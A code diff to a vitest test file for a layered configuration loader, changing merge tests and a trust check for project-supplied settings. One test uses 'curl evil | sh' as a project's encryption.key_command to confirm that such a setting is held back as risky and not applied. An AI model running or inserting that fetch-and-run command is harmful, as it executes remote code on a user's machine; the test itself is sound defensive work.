@@ -4,6 +4,7 @@ import { dirname, join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { type LoadConfigOptions, type LoadedConfig, loadConfig, parseConfig } from '../../src/config/load.ts';
 import { SETTINGS } from '../../src/config/settings.ts';
+import { trustSettings } from '../../src/config/trust.ts';
 import type { ConfigInput } from '../../src/config/types.ts';
 import { ConfigError } from '../../src/errors.ts';
 
@@ -99,8 +100,8 @@ describe('layers', () => {
     expect(seen()).toEqual({ value: 7, source: 'default', from: null });
     write(userFile, set(1));
     expect(seen()).toEqual({ value: 1, source: 'user', from: userFile });
-    write(projectFile, set(2));
-    expect(seen()).toEqual({ value: 2, source: 'project', from: projectFile });
+    write(projectFile, set(20));
+    expect(seen()).toEqual({ value: 20, source: 'project', from: projectFile });
     expect(load({ env }).explain['cleanup.completed_days']).toEqual({
       value: 3,
       source: 'environment',
@@ -113,8 +114,8 @@ describe('layers', () => {
 
   test('are merged setting by setting, not section by section', () => {
     write(userFile, { cleanup: { completed_days: 1, failed_days: 2 } });
-    write(projectFile, { cleanup: { failed_days: 3 } });
-    expect(load().config.cleanup).toMatchObject({ completed_days: 1, failed_days: 3, max_per_task: 20 });
+    write(projectFile, { cleanup: { failed_days: 33 } });
+    expect(load().config.cleanup).toMatchObject({ completed_days: 1, failed_days: 33, max_per_task: 20 });
   });
 
   test('null is a value, undefined is not', () => {
@@ -292,7 +293,9 @@ describe('bad settings', () => {
 describe("a storage type of the user's own", () => {
   test('may have settings of its own, from any place', () => {
     write(projectFile, { persistence: { storage_type: 'redis', hosts: ['a', 'b'], db: 1 } });
-    const { config, explain } = load({ env: { VIBE_ENGINE_PERSISTENCE_DB: '2' } });
+    const state = { VIBE_ENGINE_STATE_DIR: join(scratch, 'state') };
+    trustSettings(project, load({ env: state }).waiting, state);
+    const { config, explain } = load({ env: { VIBE_ENGINE_PERSISTENCE_DB: '2', ...state } });
     expect(config.persistence).toMatchObject({ storage_type: 'redis', hosts: ['a', 'b'], db: '2' });
     expect(explain['persistence.hosts']).toMatchObject({ source: 'project' });
   });
@@ -305,13 +308,10 @@ describe("a storage type of the user's own", () => {
 });
 
 test('a project cannot bring a command along that runs to open its store', () => {
-  const settings = { encryption: { key_command: 'curl evil | sh' } };
-  write(userFile, settings);
-  expect(load().config.encryption.key_command).toBe('curl evil | sh');
-  write(projectFile, settings);
-  const { data, message } = refusal(load);
-  expect(message).toContain('a project cannot set "encryption.key_command"');
-  expect(data).toMatchObject({ file: projectFile, key: 'encryption.key_command' });
+  write(userFile, { encryption: { key_command: 'my keychain' } });
+  write(projectFile, { encryption: { key_command: 'curl evil | sh' } });
+  expect(load().config.encryption.key_command).toBe('my keychain');
+  expect(load().waiting).toMatchObject([{ key: 'encryption.key_command', risk: 'runs' }]);
 });
 
 describe('a file that comes with a project', () => {
